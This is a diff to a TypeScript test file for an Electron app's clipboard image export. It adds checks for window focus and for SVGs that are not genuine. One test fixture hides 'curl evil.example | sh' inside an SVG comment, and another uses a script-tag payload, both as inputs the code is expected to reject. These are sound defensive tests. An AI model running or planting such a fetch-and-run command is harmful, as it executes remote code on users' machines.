@@ -8,14 +8,22 @@ import { renderJourneySvg } from '../../../shared/export';
 import { createStarterJourney } from '../../../shared/model/starter';
 
 /** Electron's clipboard as the OS would see it: what was written, as bytes per MIME type. */
-function recordingClipboard(options: { svgRefused?: boolean } = {}) {
+function recordingClipboard(options: { svgRefused?: boolean; focused?: boolean } = {}) {
   const copies: Map<string, Buffer>[] = [];
+  const warnings: string[] = [];
   const port: ClipboardPort = {
+    senderFocused: () => options.focused ?? true,
+    warn: (message) => void warnings.push(message),
     async write(entries: ClipboardEntries) {
       if (options.svgRefused && 'image/svg+xml' in entries) throw new Error('unsupported type');
       const copy = new Map<string, Buffer>();
       for (const [type, payload] of Object.entries(entries)) {
-        copy.set(type, typeof payload === 'string' ? Buffer.from(payload) : Buffer.from(await payload.arrayBuffer()));
+        copy.set(
+          type,
+          typeof payload === 'string'
+            ? Buffer.from(payload)
+            : Buffer.from(await payload.arrayBuffer()),
+        );
       }
       copies.push(copy);
     },
@@ -23,7 +31,7 @@ function recordingClipboard(options: { svgRefused?: boolean } = {}) {
       copies.push(new Map([['text/plain', Buffer.from(text)]]));
     },
   };
-  return { port, copies };
+  return { port, copies, warnings };
 }
 
 const journey = createStarterJourney({ id: 'j', now: '2026-01-01T00:00:00.000Z' });
@@ -47,10 +55,30 @@ describe('Copy as PNG / SVG, main side', () => {
     expect(copies[0]!.get('text/plain')!.toString('utf8')).toBe(SVG);
   });
 
-  it('where the platform takes no SVG type, the markup still goes on as text', async () => {
-    const { port, copies } = recordingClipboard({ svgRefused: true });
+  it('where the platform takes no SVG type, the markup still goes on as text, and it is logged', async () => {
+    const { port, copies, warnings } = recordingClipboard({ svgRefused: true });
     await copyImageToClipboard(port, { format: 'svg', bytes: new TextEncoder().encode(SVG) });
     expect(copies).toEqual([new Map([['text/plain', Buffer.from(SVG)]])]);
+    expect(warnings).toEqual(['The clipboard refused SVG as an image; copied it as text']);
+  });
+
+  it('refuses a window that is not in front (a page in the background cannot swap the clipboard)', async () => {
+    const { port, copies } = recordingClipboard({ focused: false });
+    await expect(copyImageToClipboard(port, { format: 'png', bytes: PNG })).rejects.toThrow(
+      /not the one in front/,
+    );
+    expect(copies).toEqual([]);
+  });
+
+  it('refuses an "SVG" that starts with a comment, which could carry any text to paste elsewhere', async () => {
+    const { port, copies } = recordingClipboard();
+    const sneaky = new TextEncoder().encode(
+      '<!--\ncurl evil.example | sh\n--><svg xmlns="http://www.w3.org/2000/svg"/>',
+    );
+    await expect(copyImageToClipboard(port, { format: 'svg', bytes: sneaky })).rejects.toThrow(
+      /not a svg image/,
+    );
+    expect(copies).toEqual([]);
   });
 
   it('a PNG the clipboard refuses is an error the dialog shows, not a silent success', async () => {
@@ -59,8 +87,12 @@ describe('Copy as PNG / SVG, main side', () => {
         throw new Error('clipboard busy');
       },
       writeText: async () => {},
+      senderFocused: () => true,
+      warn: () => {},
     };
-    await expect(copyImageToClipboard(port, { format: 'png', bytes: PNG })).rejects.toThrow('clipboard busy');
+    await expect(copyImageToClipboard(port, { format: 'png', bytes: PNG })).rejects.toThrow(
+      'clipboard busy',
+    );
   });
 
   it('refuses bytes that are not the image they claim, and copies nothing', async () => {
@@ -69,7 +101,10 @@ describe('Copy as PNG / SVG, main side', () => {
       copyImageToClipboard(port, { format: 'png', bytes: new TextEncoder().encode(SVG) }),
     ).rejects.toThrow(/not a png image/);
     await expect(
-      copyImageToClipboard(port, { format: 'svg', bytes: new TextEncoder().encode('<script>alert(1)</script>') }),
+      copyImageToClipboard(port, {
+        format: 'svg',
+        bytes: new TextEncoder().encode('<script>alert(1)</script>'),
+      }),
     ).rejects.toThrow(/not a svg image/);
     expect(copies).toEqual([]);
   });
